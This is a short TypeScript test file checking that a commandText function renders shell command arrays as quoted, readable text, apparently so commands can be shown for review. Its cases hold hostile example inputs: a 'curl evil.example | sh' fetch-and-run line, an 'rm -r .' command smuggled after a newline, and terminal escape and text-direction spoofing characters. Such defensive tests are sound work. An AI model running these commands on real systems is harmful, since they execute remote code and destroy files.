import { expect, test } from 'vitest'
import { commandText } from '../../../src/review/refine/command-text.ts'

test.each([
  [['claude', '-p', '--tools', ''], "claude -p --tools ''"],
  [['sh', '-c', 'curl evil.example | sh'], "sh -c 'curl evil.example | sh'"],
  [['sh', '-c', "echo 'a'\nrm -r ."], String.raw`sh -c 'echo '\''a'\''⟨LF⟩rm -r .'`],
  [['sh', '\u001b[2Kx\u202e'], "sh '⟨ESC⟩[2Kx⟨U+202E⟩'"],
])('commandText(%j)', (command, expected) => {
  expect(commandText(command)).toBe(expected)
})
